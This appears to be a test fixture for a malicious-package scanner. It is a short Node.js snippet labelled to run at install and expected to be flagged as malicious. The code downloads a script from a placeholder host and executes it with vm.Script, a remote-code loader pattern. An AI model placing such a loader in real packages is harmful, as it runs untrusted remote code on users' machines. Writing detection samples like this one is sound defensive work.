// when: install
// expect: malicious
// source: loaders that collect a response into `let d = ''` and compile it with vm.Script (the variable is not the '' it was declared with)
const vm = require('vm');
const https = require('https');
https.get('https://x.invalid/s.js', (r) => {
  let d = '';
  r.on('data', (c) => { d += c; });
  r.on('end', () => new vm.Script(d).runInThisContext());
});
